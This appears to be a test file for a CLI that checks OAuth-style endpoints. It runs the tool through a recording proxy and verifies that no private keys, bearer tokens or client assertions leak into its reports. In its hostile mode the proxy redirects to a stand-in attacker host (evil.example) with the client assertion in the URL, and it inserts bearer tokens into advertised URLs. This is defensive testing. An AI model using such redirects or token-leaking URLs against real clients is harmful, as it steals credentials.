/**
 * The secret-scan: a full run of the CLI against the reference target (as an external target, its PKI on
 * disk like a user's), with a wiretap between harness and target that records every client assertion and
 * bearer token sent and every access token issued. Then every output of the run (console, every file under
 * the output folder) is searched for the private keys and for those secrets. Without --show-secrets none
 * may appear; with it, tokens appear (and the report says so) but private keys still never do.
 */
import { randomBytes } from "node:crypto";
import { mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { CompactSign } from "jose";
import { request } from "undici";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { REFERENCE_ROLES } from "../cli/builtin-target.ts";
import { captureIo } from "../cli/capture-io.fixture.ts";
import { main } from "../cli/main.ts";
import { targetsEntryYaml, writeDelegationMasks, writeUnregisteredCertificate } from "../cli/serve.ts";
import { generateTestPki, TEST_PARTY_ROLES, toPem, writeTestPki } from "../pki/index.ts";
import { type ReferenceTarget, startReferenceTarget } from "../reference/index.ts";
import type { RunSummary } from "../report/index.ts";
import { filesUnder, leaks, readAll } from "./output-scan.fixture.ts";

/** Hang detector for one full run through the wiretap (a loaded machine is slow, not wrong). */
const FULL_RUN_MS = 300_000;

/** What went over the wire, by kind. */
const seen = { assertions: new Set<string>(), bearer: new Set<string>(), issued: new Set<string>() };

/**
 * Hostile answers the wiretap plays instead of passing the reference's on (undefined: pass them on):
 * - `shapes`: the first token answer is passed on (discovery gets a token); the authenticated capabilities
 *   answer is re-signed by the target's own key with that bearer token in every advertised URL (so it
 *   verifies, and the notices quote it); later token answers carry the token nested
 *   (`{"access_token":{"value":…}}`), an `id_token` and another JWT-shaped string;
 * - `redirect`: the first token answer is a 302 whose Location carries the client assertion.
 */
let hostile: "shapes" | "redirect" | undefined;
let tokenAnswers = 0;
let pkiKeys: Awaited<ReturnType<typeof generateTestPki>>;

/** A random string shaped like a JWT (never issued by anyone). */
const jwtShaped = (): string =>
  `eyJ${randomBytes(12).toString("base64url")}.eyJ${randomBytes(24).toString("base64url")}.${randomBytes(32).toString("base64url")}`;

/** The hostile replacement of an answer, or undefined to pass it on. */
async function hostileAnswer(
  req: IncomingMessage,
  body: string,
  answer: Buffer,
  status: number,
): Promise<{ status: number; headers: Record<string, string>; body: string } | undefined> {
  const json = { "content-type": "application/json" };
  if (hostile === undefined) return undefined;
  if (req.url?.startsWith(reference.endpoints["token"] ?? "/connect/token") && status === 200) {
    tokenAnswers += 1;
    if (tokenAnswers === 1 && hostile === "redirect") {
      const assertion = new URLSearchParams(body).get("client_assertion") ?? "";
      return {
        status: 302,
        headers: { location: `https://evil.example/cb?client_assertion=${assertion}` },
        body: "",
      };
    }
    if (tokenAnswers === 1) return undefined;
    const issued = JSON.parse(answer.toString("utf8")) as Record<string, unknown>;
    const idToken = jwtShaped();
    const debug = jwtShaped();
    seen.issued.add(idToken);
    seen.issued.add(debug);
    return {
      status: 200,
      headers: json,
      body: JSON.stringify({
        ...issued,
        access_token: { value: issued["access_token"] },
        id_token: idToken,
        debug: `upstream said ${debug}`,
      }),
    };
  }
  const bearer = req.headers.authorization?.slice("Bearer ".length);
  if (
    hostile === "shapes" &&
    req.url?.startsWith("/capabilities") &&
    bearer !== undefined &&
    status === 200
  ) {
    const token = (JSON.parse(answer.toString("utf8")) as { capabilities_token: string }).capabilities_token;
    const [header, payload] = token.split(".").map((part) => Buffer.from(part, "base64url").toString("utf8"));
    const leaky = (payload ?? "").replace(
      /"url":"([^"]+)"/g,
      (_m, url: string) => `"url":"${url}?access_token=${bearer}"`,
    );
    const resigned = await new CompactSign(new TextEncoder().encode(leaky))
      .setProtectedHeader(JSON.parse(header ?? "{}") as { alg: string })
      .sign(pkiKeys.parties.reference.privateKey);
    return { status: 200, headers: json, body: JSON.stringify({ capabilities_token: resigned }) };
  }
  return undefined;
}

let dir: string;
let pkiDir: string;
let reference: ReferenceTarget;
let wiretap: Server;
let targetsFile: string;

/** Forwards to the reference target, recording the secrets in both directions. */
async function tap(req: IncomingMessage, res: ServerResponse): Promise<void> {
  const body = await readAll(req);
  const text = body.toString("utf8");
  for (const match of text.matchAll(/client_assertion=([^&]+)/g)) {
    seen.assertions.add(decodeURIComponent(match[1] ?? ""));
  }
  const authorization = req.headers.authorization;
  if (authorization?.startsWith("Bearer ")) seen.bearer.add(authorization.slice(7));
  const headers = Object.fromEntries(
    Object.entries(req.headers).filter(([name]) => !["host", "connection", "content-length"].includes(name)),
  ) as Record<string, string>;
  const upstream = await request(`${reference.baseUrl}${req.url ?? "/"}`, {
    method: (req.method ?? "GET") as "GET",
    headers,
    ...(body.length > 0 ? { body } : {}),
  });
  const answer = Buffer.from(await upstream.body.arrayBuffer());
  for (const match of answer.toString("utf8").matchAll(/"access_token":"([^"]+)"/g))
    seen.issued.add(match[1] ?? "");
  const replaced = await hostileAnswer(req, text, answer, upstream.statusCode);
  if (replaced) {
    res.writeHead(replaced.status, replaced.headers);
    res.end(replaced.body);
    return;
  }
  const { "transfer-encoding": _chunked, connection: _connection, ...passed } = upstream.headers;
  res.writeHead(upstream.statusCode, passed);
  res.end(answer);
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), "secret-scan-"));
  pkiDir = join(dir, "pki");
  const pki = await generateTestPki();
  pkiKeys = pki;
  await writeTestPki(pki, pkiDir);
  await writeFile(
    join(pkiDir, "issuing-ca.chain.pem"),
    toPem(pki.issuing.certificate) + toPem(pki.root.certificate),
  );
  await writeUnregisteredCertificate(pki, pkiDir);
  reference = await startReferenceTarget({ pki });
  wiretap = createServer((req, res) => {
    tap(req, res).catch(() => res.destroy());
  });
  wiretap.listen(0, "127.0.0.1");
  await new Promise((resolve) => wiretap.once("listening", resolve));
  await writeDelegationMasks(pkiDir, reference.delegationMasks);
  const yaml = targetsEntryYaml({
    name: "tapped",
    baseUrl: `http://127.0.0.1:${(wiretap.address() as AddressInfo).port}`,
    partyId: reference.partyId,
    version: "2.0",
    roles: REFERENCE_ROLES,
    expiredToken: reference.expiredToken,
    endpoints: reference.endpoints,
    pkiDir,
    parties: Object.fromEntries(TEST_PARTY_ROLES.map((role) => [role, pki.parties[role].partyId])),
  });
  targetsFile = join(dir, "targets.yaml");
  // No rate limit: the scan is about what is written, not about pace.
  await writeFile(targetsFile, `defaults:\n  rateLimit: 0\n${yaml}`);
});

afterAll(async () => {
  await new Promise((resolve) => wiretap?.close(resolve));
  await reference?.close();
  await rm(dir, { recursive: true, force: true });
});

/**
 * Private key material of the PKI: each base64 line of each key file, and the whole body on one line. A
 * PKCS#8 RSA key also holds the public modulus, which certificates (x5c) rightly carry: lines that also
 * occur in the PKI's public files are public, and left out.
 */
async function keyMaterial(): Promise<string[]> {
  const names = await readdir(pkiDir);
  const body = (text: string): string[] => text.split("\n").filter((l) => l !== "" && !l.startsWith("-----"));
  const publicText = (
    await Promise.all(
      names
        .filter((n) => n.endsWith(".pem") && !n.endsWith(".key.pem"))
        .map((n) => readFile(join(pkiDir, n), "utf8")),
    )
  )
    .map((text) => body(text).join(""))
    .join("|");
  const material: string[] = [];
  for (const name of names.filter((n) => n.endsWith(".key.pem"))) {
    const lines = body(await readFile(join(pkiDir, name), "utf8"));
    material.push(...lines.filter((line) => line.length >= 40 && !publicText.includes(line)), lines.join(""));
  }
  return material;
}

/** The credentials seen on the wire: whole tokens and assertions, and each assertion's signature. */
function wireSecrets(): string[] {
  const assertions = [...seen.assertions];
  return [
    ...assertions,
    ...assertions.map((jwt) => jwt.split(".")[2] ?? ""),
    ...seen.bearer,
    ...seen.issued,
  ].filter((secret) => secret.length >= 16);
}

async function fullRun(out: string, extra: string[] = []) {
  const io = captureIo(dir);
  const code = await main(
    ["run", "--targets", targetsFile, "--target", "tapped", "--out", out, ...extra],
    io,
  );
  const outputs = [
    { path: "stdout", text: io.out() },
    { path: "stderr", text: io.err() },
    ...(await filesUnder(out)),
  ];
  const summary = JSON.parse(await readFile(join(out, "summary.json"), "utf8")) as RunSummary;
  return { code, outputs, summary };
}

describe("secrets never leak", () => {
  test(
    "a full run leaks no private key, access token, bearer token or client assertion anywhere",
    async () => {
      const { code, outputs, summary } = await fullRun(join(dir, "reports"));
      expect([0, 1]).toContain(code);
      expect(summary.cases.length).toBeGreaterThan(40);
      // The entry `serve` prints is complete: no case is skipped for want of configuration.
      const unconfigured = summary.cases.filter(
        (c) => c.status === "skipped" && /needs|targets\./.test(c.message),
      );
      expect(unconfigured.map((c) => `${c.id}: ${c.message}`)).toEqual([]);
      // The run handled real credentials: the scan has something to look for.
      expect(seen.assertions.size).toBeGreaterThan(30);
      expect(seen.issued.size).toBeGreaterThan(0);
      expect(outputs.length).toBeGreaterThan(10);
      // The single-file HTML report's inline data is scanned too, decoded.
      expect(outputs.filter((o) => o.path.includes("index.html → ")).length).toBeGreaterThan(10);
      expect(
        outputs.filter((o) => /-----BEGIN [A-Z ]*PRIVATE KEY-----/.test(o.text)).map((o) => o.path),
      ).toEqual([]);
      const material = await keyMaterial();
      // The scan would see a key if one were written (PEM, or its base64 on one line).
      const clientKey = await readFile(join(pkiDir, "client.key.pem"), "utf8");
      expect(leaks([{ path: "planted", text: clientKey.replace(/\n/g, "") }], material)).not.toEqual([]);
      expect(leaks(outputs, material)).toEqual([]);
      expect(leaks(outputs, wireSecrets())).toEqual([]);
      // Redacted, not dropped: the fingerprints let a reader correlate requests.
      expect(outputs.some((o) => /\[redacted sha256:[0-9a-f]{8}\]/.test(o.text))).toBe(true);
    },
    FULL_RUN_MS,
  );

  test(
    "--show-secrets shows tokens and assertions (and says so), never private keys",
    async () => {
      seen.assertions.clear();
      seen.bearer.clear();
      seen.issued.clear();
      const { outputs, summary } = await fullRun(join(dir, "reports-shown"), ["--show-secrets"]);
      expect(leaks(outputs, await keyMaterial())).toEqual([]);
      expect(
        outputs.filter((o) => /-----BEGIN [A-Z ]*PRIVATE KEY-----/.test(o.text)).map((o) => o.path),
      ).toEqual([]);
      const results = outputs.find((o) => o.path.endsWith("results.jsonl"))?.text ?? "";
      expect([...seen.assertions].some((jwt) => results.includes(jwt))).toBe(true);
      expect([...seen.issued].some((token) => results.includes(token))).toBe(true);
      expect(summary.notices).toContainEqual(expect.stringContaining("--show-secrets"));
      // The marker travels with every report: summary.json, JUnit properties, the HTML overview.
      expect(summary.secrets).toBe("shown (--show-secrets)");
      const junit = outputs.find((o) => o.path.endsWith("junit.xml"))?.text ?? "";
      expect(junit).toContain('<property name="secrets" value="shown (--show-secrets)"/>');
      const overview = outputs.find((o) => o.path.endsWith("allure_environment.json"))?.text ?? "";
      expect(overview).toContain("shown (--show-secrets)");
    },
    FULL_RUN_MS,
  );

  test.each([
    [
      "shapes",
      "a bearer token in the advertised URLs (notices), a nested access_token, an id_token, other JWT-shaped strings",
    ],
    ["redirect", "the client assertion in a redirect Location (notices)"],
  ] as const)(
    "a hostile target (%s): %s never reach any output",
    async (mode, _what) => {
      seen.assertions.clear();
      seen.bearer.clear();
      seen.issued.clear();
      hostile = mode;
      tokenAnswers = 0;
      try {
        const { outputs, summary } = await fullRun(join(dir, `reports-${mode}`), [
          "--suite",
          "token",
          "--skip-preflight",
        ]);
        expect(summary.cases.length).toBeGreaterThan(20);
        // The hostile answers were played, and they are what the notices and results quote.
        expect(tokenAnswers).toBeGreaterThan(1);
        if (mode === "shapes") {
          expect(summary.notices).toContainEqual(
            expect.stringContaining("but the target's capabilities advertise"),
          );
          expect(seen.bearer.size).toBeGreaterThan(0);
        } else {
          expect(summary.notices).toContainEqual(
            expect.stringContaining("https://evil.example/cb?client_assertion="),
          );
        }
        expect(leaks(outputs, wireSecrets())).toEqual([]);
        expect(leaks(outputs, await keyMaterial())).toEqual([]);
      } finally {
        hostile = undefined;
      }
    },
    FULL_RUN_MS,
  );
});
